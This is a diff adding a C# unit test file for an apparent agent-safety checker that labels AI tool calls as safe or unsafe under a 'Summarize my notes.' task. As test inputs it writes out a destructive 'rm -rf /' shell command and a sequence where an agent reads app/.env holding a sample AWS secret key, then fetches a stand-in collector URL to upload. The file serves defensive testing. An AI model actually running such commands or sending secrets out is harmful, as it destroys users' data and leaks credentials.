@@ -1,0 +1,52 @@
+using SafeMcp.Grains.Decisions;
+using SafeMcp.WorldModel.Evaluation;
+using SafeMcp.WorldModel.Features;
+using SafeMcp.WorldModel.Network;
+
+namespace SafeMcp.WorldModel.Tests;
+
+public sealed class DecisionPathCheckTests
+{
+    private static readonly ToolInfo[] s_tools =
+    [
+        new("read_file", "Read a file", """{"type":"object","properties":{"path":{"type":"string"}}}"""),
+        new("fetch_url", "Fetch a URL over HTTP", "not json"),
+        new("run_shell_command", "Run a shell command"),
+        new("read_file", "A second tool of the same name is ignored"),
+    ];
+
+    [Fact]
+    public async Task The_current_call_is_decided_after_the_prefix_ran_through_the_session()
+    {
+        var check = new DecisionPathCheck(DecisionPipeline.RulesOnly());
+
+        var benign = await check.CheckAsync(Input([], new TrajectoryStep("read_file", """{"path":"notes/monday.md"}""")), CancellationToken.None);
+        var destructive = await check.CheckAsync(Input([], new TrajectoryStep("run_shell_command", """{"command":"rm -rf /"}""")), CancellationToken.None);
+        // The prefix read a secrets file and reported what it returned: the session is tainted, so sending data out is stopped.
+        var afterSecrets = await check.CheckAsync(Input(
+            [new TrajectoryStep("read_file", """{"path":"app/.env"}""", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")],
+            new TrajectoryStep("fetch_url", """{"url":"https://collector.example.net/upload"}""")), CancellationToken.None);
+        var sameCallFresh = await check.CheckAsync(Input([], new TrajectoryStep("fetch_url", """{"url":"https://collector.example.net/upload"}""")), CancellationToken.None);
+        var final = await check.CheckAsync(Input([], null), CancellationToken.None);
+
+        Assert.Equal((SafetyLabel.Safe, 0), (benign.Label, benign.FilteredTools.Count));
+        Assert.Equal(SafetyLabel.Unsafe, destructive.Label);
+        Assert.Equal(["run_shell_command"], destructive.FilteredTools);
+        Assert.Equal(SafetyLabel.Unsafe, afterSecrets.Label);
+        Assert.Equal(SafetyLabel.Safe, sameCallFresh.Label);
+        Assert.Equal((SafetyLabel.Safe, 0), (final.Label, final.FilteredTools.Count));
+    }
+
+    [Fact]
+    public async Task Free_text_arguments_reach_the_rules_as_a_string()
+    {
+        var check = new DecisionPathCheck(DecisionPipeline.RulesOnly());
+
+        var outcome = await check.CheckAsync(Input([], new TrajectoryStep("run_shell_command", "rm -rf /")), CancellationToken.None);
+
+        Assert.Equal(SafetyLabel.Unsafe, outcome.Label);
+    }
+
+    private static WorldModelInput Input(IReadOnlyList<TrajectoryStep> prefix, TrajectoryStep? current) =>
+        new("Summarize my notes.", s_tools, prefix, current);
+}
